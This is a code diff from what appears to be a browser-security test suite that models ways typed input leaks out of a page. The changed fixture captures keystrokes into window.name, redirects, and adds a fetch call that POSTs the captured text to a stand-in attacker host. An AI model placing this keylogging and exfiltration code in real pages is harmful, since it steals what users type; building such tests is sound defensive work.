@@ -1,5 +1,5 @@
 // Attacks by the way out: where what was typed is sent to, and how.
-import { fake, SECRET, script, thief } from "../page.mjs";
+import { fake, hostOf, SECRET, script, thief } from "../page.mjs";
 import { arrive } from "./steal-keys.mjs";
 
 /** The page that a form is sent to tells what arrived. */
@@ -85,12 +85,13 @@ const CHANNELS = [
   },
   {
     id: "out-by-window-name",
-    what: "gives what was typed to the next page in the window's name",
+    what: "gives what was typed to the next page in the window's name, which asks for nothing",
+    due: false,
     page: fake("out-by-window-name", {
       attack: `${HEAR} window.name = ""; hear((key) => { window.name += key; }); begun(); setTimeout(() => { location.href = "${other("out-by-window-name")}"; }, 700);`,
     }),
     more: {
-      "in-out-by-window-name.example/": `<!doctype html><title>Thank you</title>${script(thief("out-by-window-name"))}${script(`steal(window.name, "name");`)}`,
+      "in-out-by-window-name.example/": `<!doctype html><title>Thank you</title>${script(`fetch("https://${hostOf("out-by-window-name")}/.got", { method: "POST", mode: "no-cors", body: JSON.stringify({ event: "name", text: window.name }) });`)}`,
     },
   },
   {
